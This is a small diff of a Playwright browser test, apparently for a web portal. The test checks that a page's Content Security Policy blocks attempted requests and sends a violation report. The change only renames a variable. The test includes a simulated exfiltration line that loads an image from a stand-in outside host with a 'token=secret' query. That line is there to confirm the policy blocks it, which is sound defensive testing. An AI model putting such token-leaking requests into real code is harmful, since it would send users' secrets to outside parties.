@@ -5,7 +5,7 @@ test.describe('a page that is made to break its policy', () => {
 
   test('is kept from it, and its browser reports that', async ({ pageOf, portal }) => {
     const page = await pageOf('ashby-guest')
-    const told = page.waitForResponse(answer => answer.url().endsWith('/api/csp-reports'))
+    const report = page.waitForResponse(answer => answer.url().endsWith('/api/csp-reports'))
     const ran = await page.evaluate(() => {
       document.createElement('img').src = 'https://elsewhere.example/x.png?token=secret'
       const attempts = [
@@ -22,7 +22,7 @@ test.describe('a page that is made to break its policy', () => {
       })
     })
     expect(ran).toEqual([false, false])
-    expect((await told).status()).toBe(204)
+    expect((await report).status()).toBe(204)
     await expect.poll(() => portal.output()).toMatch(/kept from breaking its content security policy/)
     await expect
       .poll(async () => (await fetch(`${portal.url}/metrics`)).text())
